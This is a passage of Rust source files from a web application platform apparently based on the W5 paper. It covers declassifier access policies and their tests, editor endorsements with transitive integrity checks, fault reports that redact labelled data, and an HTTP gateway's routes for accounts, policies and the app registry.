        self.friends.read().contains(&(a.to_string(), b.to_string()))
    }
    fn in_group(&self, owner: &str, group: &str, user: &str) -> bool {
        self.groups
            .read()
            .contains(&(owner.to_string(), group.to_string(), user.to_string()))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ctx(owner: u64, viewer: Option<u64>) -> ExportContext {
        ExportContext {
            owner: UserId(owner),
            owner_name: format!("user{owner}"),
            viewer: viewer.map(UserId),
            viewer_name: viewer.map(|v| format!("user{v}")),
            app: "devA/social".to_string(),
        }
    }

    #[test]
    fn owner_only() {
        let d = OwnerOnly;
        let o = NoRelations;
        assert_eq!(d.authorize(&ctx(1, Some(1)), &o), Verdict::Allow);
        assert_eq!(d.authorize(&ctx(1, Some(2)), &o), Verdict::Deny);
        assert_eq!(d.authorize(&ctx(1, None), &o), Verdict::Deny);
    }

    #[test]
    fn public_read() {
        let d = PublicRead;
        assert_eq!(d.authorize(&ctx(1, None), &NoRelations), Verdict::Allow);
    }

    #[test]
    fn friends_only() {
        let d = FriendsOnly;
        let rel = StaticRelations::new();
        rel.add_friend("user1", "user2");
        assert_eq!(d.authorize(&ctx(1, Some(1)), &rel), Verdict::Allow, "owner");
        assert_eq!(d.authorize(&ctx(1, Some(2)), &rel), Verdict::Allow, "friend");
        assert_eq!(d.authorize(&ctx(1, Some(3)), &rel), Verdict::Deny, "stranger");
        assert_eq!(d.authorize(&ctx(2, Some(1)), &rel), Verdict::Deny, "friendship is directed");
        assert_eq!(d.authorize(&ctx(1, None), &rel), Verdict::Deny, "anonymous");
    }

    #[test]
    fn group_only() {
        let d = GroupOnly { group: "roommates" };
        let rel = StaticRelations::new();
        rel.add_group_member("user1", "roommates", "user2");
        assert_eq!(d.authorize(&ctx(1, Some(2)), &rel), Verdict::Allow);
        assert_eq!(d.authorize(&ctx(1, Some(3)), &rel), Verdict::Deny);
        rel.add_group_member("user1", "chess-club", "user3");
        assert_eq!(d.authorize(&ctx(1, Some(3)), &rel), Verdict::Deny, "wrong group");
    }

    #[test]
    fn rate_limited_budget_and_reset() {
        let d = RateLimited::new(Arc::new(PublicRead), 2);
        let o = NoRelations;
        assert_eq!(d.authorize(&ctx(1, Some(2)), &o), Verdict::Allow);
        assert_eq!(d.authorize(&ctx(1, Some(2)), &o), Verdict::Allow);
        assert_eq!(d.authorize(&ctx(1, Some(2)), &o), Verdict::Deny, "budget spent");
        // Budgets are per (owner, viewer).
        assert_eq!(d.authorize(&ctx(1, Some(3)), &o), Verdict::Allow);
        d.reset();
        assert_eq!(d.authorize(&ctx(1, Some(2)), &o), Verdict::Allow);
    }

    #[test]
    fn rate_limited_budget_is_per_viewer_and_per_owner() {
        // Audit for the w5-analyze work: the budget key is the full
        // (owner, viewer) pair, so no viewer can drain another viewer's
        // budget, and the same viewer has independent budgets against
        // different owners.
        let d = RateLimited::new(Arc::new(PublicRead), 1);
        let o = NoRelations;
        assert_eq!(d.authorize(&ctx(1, Some(2)), &o), Verdict::Allow);
        assert_eq!(d.authorize(&ctx(1, Some(2)), &o), Verdict::Deny, "viewer 2 spent");
        // A different viewer of the same owner is unaffected.
        assert_eq!(d.authorize(&ctx(1, Some(3)), &o), Verdict::Allow);
        // The same viewer against a different owner is unaffected.
        assert_eq!(d.authorize(&ctx(4, Some(2)), &o), Verdict::Allow);
        // Anonymous viewers share one bucket per owner (None key).
        assert_eq!(d.authorize(&ctx(1, None), &o), Verdict::Allow);
        assert_eq!(d.authorize(&ctx(1, None), &o), Verdict::Deny);
    }

    #[test]
    fn inner_denials_do_not_consume_budget() {
        let d = RateLimited::new(Arc::new(OwnerOnly), 1);
        let o = NoRelations;
        // A stranger is denied by the inner policy; the owner's budget
        // must still be intact afterwards.
        assert_eq!(d.authorize(&ctx(1, Some(2)), &o), Verdict::Deny);
        assert_eq!(d.authorize(&ctx(1, Some(1)), &o), Verdict::Allow);
    }

    #[test]
    fn chains_are_introspectable() {
        let leaf = FriendsOnly;
        assert!(leaf.inner().is_none());
        assert_eq!(leaf.describe_chain(), vec!["friends-only"]);
        let wrapped = RateLimited::new(Arc::new(FriendsOnly), 3);
        assert_eq!(wrapped.inner().unwrap().name(), "friends-only");
        assert_eq!(wrapped.describe_chain(), vec!["rate-limited", "friends-only"]);
        let double = RateLimited::new(Arc::new(RateLimited::new(Arc::new(PublicRead), 9)), 3);
        assert_eq!(
            double.describe_chain(),
            vec!["rate-limited", "rate-limited", "public-read"]
        );
    }

    #[test]
    fn rate_limited_respects_inner_denials() {
        let d = RateLimited::new(Arc::new(OwnerOnly), 100);
        assert_eq!(d.authorize(&ctx(1, Some(2)), &NoRelations), Verdict::Deny);
    }

    #[test]
    fn registry_catalog() {
        let r = DeclassifierRegistry::with_builtins();
        assert!(r.get("friends-only").is_some());
        assert!(r.get("owner-only").is_some());
        assert!(r.get("nonexistent").is_none());
        let names: Vec<&str> = r.list().iter().map(|(n, _, _)| *n).collect();
        assert_eq!(names, vec!["friends-only", "group-only", "owner-only", "public-read"]);
        // Audit surfaces are small — the E5 claim in miniature.
        assert!(r.list().iter().all(|(_, _, lines)| *lines < 20));
    }
}
