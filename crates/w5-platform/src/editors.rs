//! W5 editors (paper §3.2) and integrity-protected launching (§3.1).
//!
//! "One can also imagine the emergence of W5 editors, who collect, audit
//! and vet software collections that are compatible and dependable." And
//! from §3.1's policy menu: "integrity protection, in which Bob can
//! authorize an application to act on his behalf only if all of its
//! components (such as its libraries and configuration files) are
//! meritorious."
//!
//! The mechanism: editors publish **endorsements** of specific app
//! versions. A user may mark editors as trusted and flip on
//! *endorsement-required* mode; the launcher then refuses to run any
//! application — or any of its imports, transitively — that no trusted
//! editor has endorsed at the resolved version.

use crate::appreg::AppRegistry;
use w5_sync::RwLock;
use serde::{Deserialize, Serialize};
use std::collections::{HashMap, HashSet};

/// One endorsement: an editor vouches for one version of one app.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Endorsement {
    /// Editor name.
    pub editor: String,
    /// App key (`"developer/app"`).
    pub app: String,
    /// Endorsed version.
    pub version: u32,
    /// Free-text audit note.
    pub note: String,
}

/// The provider's registry of editors and their endorsements.
pub struct EditorRegistry {
    endorsements: RwLock<Vec<Endorsement>>,
}

impl Default for EditorRegistry {
    fn default() -> EditorRegistry {
        EditorRegistry::new()
    }
}

impl EditorRegistry {
    /// An empty registry.
    pub fn new() -> EditorRegistry {
        EditorRegistry { endorsements: RwLock::new("platform.editors", Vec::new()) }
    }

    /// Record an endorsement (idempotent per (editor, app, version)).
    pub fn endorse(&self, editor: &str, app: &str, version: u32, note: &str) {
        let mut list = self.endorsements.write();
        if !list
            .iter()
            .any(|e| e.editor == editor && e.app == app && e.version == version)
        {
            list.push(Endorsement {
                editor: editor.to_string(),
                app: app.to_string(),
                version,
                note: note.to_string(),
            });
        }
    }

    /// Withdraw an endorsement (e.g. a vulnerability was found).
    pub fn withdraw(&self, editor: &str, app: &str, version: u32) {
        self.endorsements
            .write()
            .retain(|e| !(e.editor == editor && e.app == app && e.version == version));
    }

    /// Editors endorsing a specific app version.
    pub fn endorsers_of(&self, app: &str, version: u32) -> Vec<String> {
        let mut v: Vec<String> = self
            .endorsements
            .read()
            .iter()
            .filter(|e| e.app == app && e.version == version)
            .map(|e| e.editor.clone())
            .collect();
        v.sort();
        v.dedup();
        v
    }

    /// Is this app version endorsed by any of the given editors?
    pub fn endorsed_by_any(&self, app: &str, version: u32, trusted: &HashSet<String>) -> bool {
        self.endorsements
            .read()
            .iter()
            .any(|e| e.app == app && e.version == version && trusted.contains(&e.editor))
    }

    /// All endorsements (catalog view).
    pub fn list(&self) -> Vec<Endorsement> {
        self.endorsements.read().clone()
    }

    /// The §3.1 integrity-protection check: the app at `(key, version)`
    /// and all of its imports (transitively, at their latest versions)
    /// must be endorsed by one of `trusted`. Returns the offending
    /// component on failure.
    pub fn check_integrity(
        &self,
        apps: &AppRegistry,
        key: &str,
        version: u32,
        trusted: &HashSet<String>,
    ) -> Result<(), String> {
        let mut seen: HashMap<String, u32> = HashMap::new();
        let mut stack = vec![(key.to_string(), version)];
        while let Some((k, v)) = stack.pop() {
            if seen.insert(k.clone(), v).is_some() {
                continue;
            }
            if !self.endorsed_by_any(&k, v, trusted) {
                return Err(k);
            }
            if let Some(manifest) = apps.version(&k, v).or_else(|| apps.latest(&k)) {
                for imp in &manifest.imports {
                    if let Some(m) = apps.latest(imp) {
                        stack.push((imp.clone(), m.version));
                    } else {
                        return Err(imp.clone());
                    }
                }
            }
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::appreg::AppManifest;

    fn manifest(dev: &str, name: &str, version: u32, imports: Vec<String>) -> AppManifest {
        AppManifest {
            name: name.into(),
            developer: dev.into(),
            version,
            description: String::new(),
            module_slots: vec![],
            imports,
            forked_from: None,
            source: None,
        }
    }

    #[test]
    fn endorse_withdraw_list() {
        let r = EditorRegistry::new();
        r.endorse("linux-mag", "devA/photos", 1, "audited 2007-08");
        r.endorse("linux-mag", "devA/photos", 1, "duplicate ignored");
        r.endorse("acm-queue", "devA/photos", 1, "ok");
        assert_eq!(r.endorsers_of("devA/photos", 1), vec!["acm-queue", "linux-mag"]);
        assert_eq!(r.list().len(), 2);
        r.withdraw("linux-mag", "devA/photos", 1);
        assert_eq!(r.endorsers_of("devA/photos", 1), vec!["acm-queue"]);
        assert!(r.endorsers_of("devA/photos", 2).is_empty());
    }

    #[test]
    fn endorsed_by_any_respects_trust_set() {
        let r = EditorRegistry::new();
        r.endorse("shady-blog", "devA/photos", 1, "trust me");
        let mut trusted = HashSet::new();
        trusted.insert("linux-mag".to_string());
        assert!(!r.endorsed_by_any("devA/photos", 1, &trusted));
        trusted.insert("shady-blog".to_string());
        assert!(r.endorsed_by_any("devA/photos", 1, &trusted));
    }

    #[test]
    fn integrity_check_walks_imports() {
        let apps = AppRegistry::new();
        apps.publish(manifest("devC", "syslib", 1, vec![])).unwrap();
        apps.publish(manifest("devB", "imagelib", 1, vec!["devC/syslib".into()])).unwrap();
        apps.publish(manifest("devA", "photos", 1, vec!["devB/imagelib".into()])).unwrap();

        let editors = EditorRegistry::new();
        let trusted: HashSet<String> = ["mag".to_string()].into();

        // Nothing endorsed: the app itself fails first.
        assert_eq!(
            editors.check_integrity(&apps, "devA/photos", 1, &trusted),
            Err("devA/photos".to_string())
        );
        // Endorse app but not the transitive import: the import fails.
        editors.endorse("mag", "devA/photos", 1, "");
        editors.endorse("mag", "devB/imagelib", 1, "");
        assert_eq!(
            editors.check_integrity(&apps, "devA/photos", 1, &trusted),
            Err("devC/syslib".to_string())
        );
        // Full chain endorsed: passes.
        editors.endorse("mag", "devC/syslib", 1, "");
        assert_eq!(editors.check_integrity(&apps, "devA/photos", 1, &trusted), Ok(()));
        // Untrusted editor endorsements don't count.
        editors.withdraw("mag", "devB/imagelib", 1);
        editors.endorse("shady", "devB/imagelib", 1, "");
        assert_eq!(
            editors.check_integrity(&apps, "devA/photos", 1, &trusted),
            Err("devB/imagelib".to_string())
        );
    }

    #[test]
    fn missing_import_fails_closed() {
        let apps = AppRegistry::new();
        apps.publish(manifest("devA", "photos", 1, vec!["ghost/lib".into()])).unwrap();
        let editors = EditorRegistry::new();
        let trusted: HashSet<String> = ["mag".to_string()].into();
        editors.endorse("mag", "devA/photos", 1, "");
        assert_eq!(
            editors.check_integrity(&apps, "devA/photos", 1, &trusted),
            Err("ghost/lib".to_string())
        );
    }
}
