//! Label-safe fault reports (paper §3.5, "Debugging").
//!
//! "If the platform were to send core dumps to developers, it could
//! wrongly expose users' data to developers. Yet developers need to get
//! some information when their applications malfunction."
//!
//! The compromise implemented here: when an application instance fails,
//! the platform produces a [`FaultReport`] whose free-text fields are
//! **redacted whenever the failing process carried any secrecy label** —
//! the error *category*, app identity and resource usage are always safe
//! to share (they are properties of the code, not the data), while error
//! messages and payload excerpts may embed user data and are dropped
//! unless the process was label-free.

use w5_difc::LabelPair;

/// Coarse failure categories, safe to reveal to developers.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum FaultKind {
    /// The app's handler panicked or returned an internal error.
    Crash,
    /// A flow-control denial the app could not recover from.
    FlowDenied,
    /// A resource quota was exhausted.
    QuotaExceeded,
    /// The app produced a malformed response.
    BadResponse,
    /// The platform's own infrastructure failed underneath the app
    /// (aborted storage commit, dropped IPC, injected chaos fault). Not
    /// the app's fault; safe to retry.
    Infrastructure,
}

impl FaultKind {
    /// Stable string for logs and the developer dashboard.
    pub fn as_str(self) -> &'static str {
        match self {
            FaultKind::Crash => "crash",
            FaultKind::FlowDenied => "flow-denied",
            FaultKind::QuotaExceeded => "quota-exceeded",
            FaultKind::BadResponse => "bad-response",
            FaultKind::Infrastructure => "infrastructure",
        }
    }
}

/// What a developer receives about one failure.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct FaultReport {
    /// The failing application.
    pub app: String,
    /// The failure category.
    pub kind: FaultKind,
    /// Detailed message — present only when provably free of user data.
    pub detail: Option<String>,
    /// Whether detail was withheld because the process was tainted.
    pub redacted: bool,
}

/// Build a report for a failure in `app` whose process ended with
/// `labels`, given the raw `detail` produced inside the instance.
pub fn build_report(app: &str, kind: FaultKind, labels: &LabelPair, detail: &str) -> FaultReport {
    // Any secrecy tag on the process means the detail string may be
    // derived from protected data: redact. Integrity tags are harmless
    // (they claim provenance, they don't carry secrets).
    if labels.secrecy.is_empty() {
        FaultReport { app: app.to_string(), kind, detail: Some(detail.to_string()), redacted: false }
    } else {
        FaultReport { app: app.to_string(), kind, detail: None, redacted: true }
    }
}

impl FaultReport {
    /// Render as a single log line.
    pub fn to_log_line(&self) -> String {
        match &self.detail {
            Some(d) => format!("fault app={} kind={} detail={:?}", self.app, self.kind.as_str(), d),
            None => format!("fault app={} kind={} detail=<redacted>", self.app, self.kind.as_str()),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use w5_difc::{Label, Tag};

    #[test]
    fn untainted_failure_keeps_detail() {
        let r = build_report("devA/photos", FaultKind::Crash, &LabelPair::public(), "index 3 out of bounds");
        assert!(!r.redacted);
        assert_eq!(r.detail.as_deref(), Some("index 3 out of bounds"));
        assert!(r.to_log_line().contains("out of bounds"));
    }

    #[test]
    fn tainted_failure_redacts_detail() {
        let labels = LabelPair::new(Label::singleton(Tag::from_raw(5)), Label::empty());
        let r = build_report(
            "devA/photos",
            FaultKind::Crash,
            &labels,
            "panic: could not parse 'bob's SSN is 123-45-6789'",
        );
        assert!(r.redacted);
        assert_eq!(r.detail, None);
        let line = r.to_log_line();
        assert!(!line.contains("SSN"), "secret must not leak: {line}");
        assert!(line.contains("kind=crash"));
        assert!(line.contains("devA/photos"), "app identity is safe metadata");
    }

    #[test]
    fn integrity_labels_do_not_redact() {
        let labels = LabelPair::new(Label::empty(), Label::singleton(Tag::from_raw(9)));
        let r = build_report("a/b", FaultKind::BadResponse, &labels, "missing content-type");
        assert!(!r.redacted);
    }

    #[test]
    fn kinds_render() {
        assert_eq!(FaultKind::FlowDenied.as_str(), "flow-denied");
        assert_eq!(FaultKind::QuotaExceeded.as_str(), "quota-exceeded");
    }
}
