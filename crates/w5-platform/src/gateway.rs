//! The HTTP gateway: W5's face to "today's Web clients" (paper §2).
//!
//! Routes:
//!
//! | Route | Purpose |
//! |---|---|
//! | `POST /signup`, `POST /login`, `POST /logout` | provider-written account code |
//! | `GET /whoami` | session introspection |
//! | `GET /registry` | application catalog (JSON) |
//! | `POST /registry/publish` | developer uploads a manifest (JSON body) |
//! | `POST /registry/fork` | fork an app (`source`, `developer` form fields) |
//! | `GET /declassifiers` | declassifier catalog |
//! | `POST /policy/enroll` · `grant` · `delegate-write` · `delegate-read` · `module` · `pin` · `trust-editor` · `require-endorsement` · `read-protection` | the user's control surface |
//! | `GET /policy` | the viewer's current policy (JSON) |
//! | `GET /editors`, `POST /editors/endorse` | endorsement catalog (§3.2) |
//! | `GET /registry/source` | released source + pinned SHA-256 (§2 audit) |
//! | `GET /search?q=` | CodeRank-ranked catalog search (§3.2) |
//! | `GET /audit` | the viewer's perimeter decision log |
//! | `GET /dev/faults` | label-scrubbed fault reports (§3.5) |
//! | any `/app/:dev/:app/*action` | launch the app and run the request |
//!
//! Authentication is a session cookie; the gateway resolves it once and
//! hands the launcher an authenticated [`Account`].

use crate::appreg::{AppManifest, ModuleManifest};
use crate::platform::Platform;
use crate::policy::GrantScope;
use crate::principal::Account;
use crate::session::SESSION_COOKIE;
use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::sync::Arc;
use w5_net::{Cookie, Handler, Method, Request, Response, SetCookie, Status};

/// The gateway: an [`Handler`] wrapping a [`Platform`].
pub struct Gateway {
    platform: Arc<Platform>,
}

impl Gateway {
    /// Wrap a platform.
    pub fn new(platform: Arc<Platform>) -> Gateway {
        Gateway { platform }
    }

    /// The wrapped platform.
    pub fn platform(&self) -> &Arc<Platform> {
        &self.platform
    }

    fn viewer(&self, req: &Request) -> Option<Account> {
        let token = req.cookie(SESSION_COOKIE)?;
        let user = self.platform.sessions.validate(&token)?;
        self.platform.accounts.get(user)
    }

    fn route(&self, req: &Request) -> Response {
        let path = req.path.as_str();
        let viewer = self.viewer(req);

        match (req.method, path) {
            (Method::Post, "/signup") => self.signup(req),
            (Method::Post, "/login") => self.login(req),
            (Method::Post, "/logout") => self.logout(req),
            (Method::Get, "/whoami") => match viewer {
                Some(a) => Response::json(format!(
                    "{{\"user\":\"{}\",\"id\":{}}}",
                    a.username, a.id.0
                )),
                None => Response::json("{\"user\":null}".to_string()),
            },
            (Method::Get, "/registry") => self.list_registry(),
            (Method::Post, "/registry/publish") => self.publish(req),
            (Method::Post, "/registry/fork") => self.fork(req),
            (Method::Post, "/registry/module") => self.publish_module(req),
            (Method::Get, "/declassifiers") => self.list_declassifiers(),
            (Method::Get, "/policy") => self.show_policy(viewer.as_ref()),
            (Method::Post, "/policy/enroll") => self.policy_enroll(req, viewer.as_ref()),
            (Method::Post, "/policy/grant") => self.policy_grant(req, viewer.as_ref()),
            (Method::Post, "/policy/delegate-write") => {
                self.policy_delegate_write(req, viewer.as_ref())
            }
            (Method::Post, "/policy/module") => self.policy_module(req, viewer.as_ref()),
            (Method::Post, "/policy/pin") => self.policy_pin(req, viewer.as_ref()),
            (Method::Post, "/policy/delegate-read") => {
                self.policy_delegate_read(req, viewer.as_ref())
            }
            (Method::Post, "/policy/read-protection") => {
                self.policy_read_protection(viewer.as_ref())
            }
            (Method::Post, "/policy/trust-editor") => self.policy_trust_editor(req, viewer.as_ref()),
            (Method::Post, "/policy/require-endorsement") => {
                self.policy_require_endorsement(req, viewer.as_ref())
            }
            (Method::Get, "/editors") => self.list_endorsements(),
            (Method::Post, "/editors/endorse") => self.endorse(req),
            (Method::Get, "/dev/faults") => self.dev_faults(req),
            (Method::Get, "/audit") => self.audit(viewer.as_ref()),
            (Method::Get, "/registry/source") => self.app_source(req),
            (Method::Get, "/search") => self.code_search(req),
            (Method::Get, "/") => self.home(viewer.as_ref()),
            _ => {
                // App dispatch: /app/:dev/:app/*action
                if let Some(rest) = path.strip_prefix("/app/") {
                    return self.dispatch_app(req, viewer.as_ref(), rest);
                }
                Response::error(Status::NOT_FOUND, "no such route")
            }
        }
    }

    fn signup(&self, req: &Request) -> Response {
        let user = req.form_param("user").unwrap_or_default();
        let password = req.form_param("password").unwrap_or_default();
        match self.platform.accounts.register(&user, &password) {
            Ok(account) => {
                let token = self.platform.sessions.create(account.id);
                let mut resp = Response::json(format!("{{\"user\":\"{}\"}}", account.username));
                resp.add_set_cookie(&SetCookie::session(SESSION_COOKIE, &token));
                resp
            }
            Err(e) => Response::error(Status::BAD_REQUEST, &e.to_string()),
        }
    }

    fn login(&self, req: &Request) -> Response {
        let user = req.form_param("user").unwrap_or_default();
        let password = req.form_param("password").unwrap_or_default();
        match self.platform.accounts.authenticate(&user, &password) {
            Ok(account) => {
                let token = self.platform.sessions.create(account.id);
                let mut resp = Response::json(format!("{{\"user\":\"{}\"}}", account.username));
                resp.add_set_cookie(&SetCookie::session(SESSION_COOKIE, &token));
                resp
            }
            Err(e) => Response::error(Status::UNAUTHORIZED, &e.to_string()),
        }
    }

    fn logout(&self, req: &Request) -> Response {
        if let Some(token) = req.cookie(SESSION_COOKIE) {
            self.platform.sessions.revoke(&token);
        }
        let mut resp = Response::json("{\"ok\":true}".to_string());
        resp.add_set_cookie(&SetCookie::delete(SESSION_COOKIE));
        resp
    }

    fn list_registry(&self) -> Response {
        let apps = self.platform.apps.list();
        match serde_json::to_string(&apps) {
            Ok(json) => Response::json(json),
            Err(_) => Response::error(Status::INTERNAL_ERROR, "serialization failed"),
        }
    }

    fn publish(&self, req: &Request) -> Response {
        let manifest: AppManifest = match serde_json::from_slice(&req.body) {
            Ok(m) => m,
            Err(e) => return Response::error(Status::BAD_REQUEST, &format!("bad manifest: {e}")),
        };
        match self.platform.apps.publish(manifest) {
            Ok(()) => Response::json("{\"ok\":true}".to_string()),
            Err(e) => Response::error(Status::BAD_REQUEST, &e.to_string()),
        }
    }

    fn fork(&self, req: &Request) -> Response {
        let source = req.form_param("source").unwrap_or_default();
        let developer = req.form_param("developer").unwrap_or_default();
        let description = req
            .form_param("description")
            .unwrap_or_else(|| "forked".to_string());
        match self.platform.apps.fork(&source, &developer, &description) {
            Ok(m) => match serde_json::to_string(&m) {
                Ok(json) => Response::json(json),
                Err(_) => Response::error(Status::INTERNAL_ERROR, "serialization failed"),
            },
            Err(e) => Response::error(Status::BAD_REQUEST, &e.to_string()),
        }
    }

    fn publish_module(&self, req: &Request) -> Response {
        let module: ModuleManifest = match serde_json::from_slice(&req.body) {
            Ok(m) => m,
            Err(e) => return Response::error(Status::BAD_REQUEST, &format!("bad module: {e}")),
        };
        match self.platform.apps.publish_module(module) {
            Ok(()) => Response::json("{\"ok\":true}".to_string()),
            Err(e) => Response::error(Status::BAD_REQUEST, &e.to_string()),
        }
    }

    fn list_declassifiers(&self) -> Response {
        let items: Vec<String> = self
            .platform
            .declassifiers
            .list()
            .into_iter()
            .map(|(name, desc, lines)| {
                format!("{{\"name\":\"{name}\",\"description\":\"{desc}\",\"audit_lines\":{lines}}}")
            })
            .collect();
        Response::json(format!("[{}]", items.join(",")))
    }

    fn show_policy(&self, viewer: Option<&Account>) -> Response {
        let Some(v) = viewer else {
            return Response::error(Status::UNAUTHORIZED, "login required");
        };
        let policy = self.platform.policies.get(v.id);
        match serde_json::to_string(&policy) {
            Ok(json) => Response::json(json),
            Err(_) => Response::error(Status::INTERNAL_ERROR, "serialization failed"),
        }
    }

    fn policy_enroll(&self, req: &Request, viewer: Option<&Account>) -> Response {
        let Some(v) = viewer else {
            return Response::error(Status::UNAUTHORIZED, "login required");
        };
        let app = req.form_param("app").unwrap_or_default();
        if self.platform.apps.latest(&app).is_none() {
            return Response::error(Status::BAD_REQUEST, "no such app");
        }
        self.platform.policies.enroll(v.id, &app);
        Response::json("{\"ok\":true}".to_string())
    }

    fn policy_grant(&self, req: &Request, viewer: Option<&Account>) -> Response {
        let Some(v) = viewer else {
            return Response::error(Status::UNAUTHORIZED, "login required");
        };
        let declassifier = req.form_param("declassifier").unwrap_or_default();
        if self.platform.declassifiers.get(&declassifier).is_none() {
            return Response::error(Status::BAD_REQUEST, "no such declassifier");
        }
        let scope = match req.form_param("app") {
            Some(app) if !app.is_empty() => GrantScope::App(app),
            _ => GrantScope::AllApps,
        };
        self.platform.policies.grant_declassifier(v.id, &declassifier, scope);
        Response::json("{\"ok\":true}".to_string())
    }

    fn policy_delegate_write(&self, req: &Request, viewer: Option<&Account>) -> Response {
        let Some(v) = viewer else {
            return Response::error(Status::UNAUTHORIZED, "login required");
        };
        let app = req.form_param("app").unwrap_or_default();
        self.platform.policies.delegate_write(v.id, &app);
        Response::json("{\"ok\":true}".to_string())
    }

    fn policy_module(&self, req: &Request, viewer: Option<&Account>) -> Response {
        let Some(v) = viewer else {
            return Response::error(Status::UNAUTHORIZED, "login required");
        };
        let app = req.form_param("app").unwrap_or_default();
        let slot = req.form_param("slot").unwrap_or_default();
        let developer = req.form_param("developer").unwrap_or_default();
        self.platform.policies.choose_module(v.id, &app, &slot, &developer);
        Response::json("{\"ok\":true}".to_string())
    }

    fn policy_pin(&self, req: &Request, viewer: Option<&Account>) -> Response {
        let Some(v) = viewer else {
            return Response::error(Status::UNAUTHORIZED, "login required");
        };
        let app = req.form_param("app").unwrap_or_default();
        let Some(version) = req.form_param("version").and_then(|s| s.parse().ok()) else {
            return Response::error(Status::BAD_REQUEST, "version must be an integer");
        };
        self.platform.policies.pin_version(v.id, &app, version);
        Response::json("{\"ok\":true}".to_string())
    }

    fn policy_delegate_read(&self, req: &Request, viewer: Option<&Account>) -> Response {
        let Some(v) = viewer else {
            return Response::error(Status::UNAUTHORIZED, "login required");
        };
        let app = req.form_param("app").unwrap_or_default();
        self.platform.policies.delegate_read(v.id, &app);
        Response::json("{\"ok\":true}".to_string())
    }

    fn policy_read_protection(&self, viewer: Option<&Account>) -> Response {
        let Some(v) = viewer else {
            return Response::error(Status::UNAUTHORIZED, "login required");
        };
        match self.platform.accounts.enable_read_protection(v.id) {
            Some(tag) => Response::json(format!("{{\"ok\":true,\"read_tag\":{}}}", tag.raw())),
            None => Response::error(Status::INTERNAL_ERROR, "no such account"),
        }
    }

    fn policy_trust_editor(&self, req: &Request, viewer: Option<&Account>) -> Response {
        let Some(v) = viewer else {
            return Response::error(Status::UNAUTHORIZED, "login required");
        };
        let editor = req.form_param("editor").unwrap_or_default();
        if editor.is_empty() {
            return Response::error(Status::BAD_REQUEST, "editor required");
        }
        self.platform.policies.trust_editor(v.id, &editor);
        Response::json("{\"ok\":true}".to_string())
    }

    fn policy_require_endorsement(&self, req: &Request, viewer: Option<&Account>) -> Response {
        let Some(v) = viewer else {
            return Response::error(Status::UNAUTHORIZED, "login required");
        };
        let on = req.form_param("on").as_deref() != Some("false");
        self.platform.policies.set_require_endorsement(v.id, on);
        Response::json(format!("{{\"ok\":true,\"require_endorsement\":{on}}}"))
    }

    fn list_endorsements(&self) -> Response {
        match serde_json::to_string(&self.platform.editors.list()) {
            Ok(json) => Response::json(json),
            Err(_) => Response::error(Status::INTERNAL_ERROR, "serialization failed"),
        }
    }

    fn endorse(&self, req: &Request) -> Response {
        let editor = req.form_param("editor").unwrap_or_default();
        let app = req.form_param("app").unwrap_or_default();
        let Some(version) = req.form_param("version").and_then(|s| s.parse().ok()) else {
            return Response::error(Status::BAD_REQUEST, "version must be an integer");
        };
        let note = req.form_param("note").unwrap_or_default();
        if editor.is_empty() || app.is_empty() {
            return Response::error(Status::BAD_REQUEST, "editor and app required");
        }
        self.platform.editors.endorse(&editor, &app, version, &note);
        Response::json("{\"ok\":true}".to_string())
    }

    /// The developer dashboard (§3.5 "developers need to get some
    /// information when their applications malfunction"): fault reports
    /// for one app, already label-scrubbed by the platform.
    fn dev_faults(&self, req: &Request) -> Response {
        let app = req.query_param("app").unwrap_or_default();
        let lines: Vec<String> = self
            .platform
            .fault_reports()
            .iter()
            .filter(|r| app.is_empty() || r.app == app)
            .map(|r| format!("\"{}\"", r.to_log_line().replace('"', "'")))
            .collect();
        Response::json(format!("[{}]", lines.join(",")))
    }

    /// The viewer's export audit: every perimeter decision that involved
    /// one of their tags — who asked, through which app, allowed or not.
    fn audit(&self, viewer: Option<&Account>) -> Response {
        let Some(v) = viewer else {
            return Response::error(Status::UNAUTHORIZED, "login required");
        };
        let my_tags: Vec<w5_difc::Tag> = [Some(v.export_tag), v.read_tag].into_iter().flatten().collect();
        let lines: Vec<String> = self
            .platform
            .exporter
            .audit_log()
            .iter()
            .filter(|e| e.secrecy_tags.iter().any(|t| my_tags.contains(t)))
            .map(|e| {
                format!(
                    "{{\"viewer\":{},\"app\":\"{}\",\"allowed\":{}}}",
                    e.viewer.map(|u| u.0 as i64).unwrap_or(-1),
                    e.app,
                    e.allowed
                )
            })
            .collect();
        Response::json(format!("[{}]", lines.join(",")))
    }

    /// Serve an app's released source for audit, with its SHA-256 pinned
    /// in a header (§2: the platform guarantees the running code is the
    /// audited code).
    fn app_source(&self, req: &Request) -> Response {
        let Some(app) = req.query_param("app") else {
            return Response::error(Status::BAD_REQUEST, "app required");
        };
        let manifest = match req.query_param("version").and_then(|v| v.parse().ok()) {
            Some(version) => self.platform.apps.version(&app, version),
            None => self.platform.apps.latest(&app),
        };
        let Some(m) = manifest else {
            return Response::error(Status::NOT_FOUND, "no such app");
        };
        match (&m.source, m.source_hash()) {
            (Some(src), Some(hash)) => Response::text(src.clone())
                .with_header("x-w5-source-sha256", &hash)
                .with_header("x-w5-app-version", &m.version.to_string()),
            _ => Response::error(Status::NOT_FOUND, "closed-source application"),
        }
    }

    /// Code search over the catalog, ranked by CodeRank over the live
    /// dependency graph (§3.2).
    fn code_search(&self, req: &Request) -> Response {
        let query = req.query_param("q").unwrap_or_default();
        let limit: usize = req
            .query_param("limit")
            .and_then(|s| s.parse().ok())
            .unwrap_or(10)
            .min(100);
        let apps = self.platform.apps.list();
        let mut graph = w5_coderank::DepGraph::new();
        // Nodes first (so isolated apps are searchable), then edges.
        let mut descriptions: Vec<(usize, String)> = Vec::new();
        for m in &apps {
            let ix = graph.add_node(&m.key());
            descriptions.push((ix, m.description.clone()));
        }
        for (from, to) in self.platform.apps.dependency_edges() {
            graph.add_edge(&from, &to);
        }
        let mut desc_vec = vec![String::new(); graph.node_count()];
        for (ix, d) in descriptions {
            desc_vec[ix] = d;
        }
        let search = w5_coderank::CodeSearch::build(
            graph,
            desc_vec,
            w5_coderank::RankParams::default(),
        );
        let hits: Vec<String> = search
            .search(&query, limit)
            .into_iter()
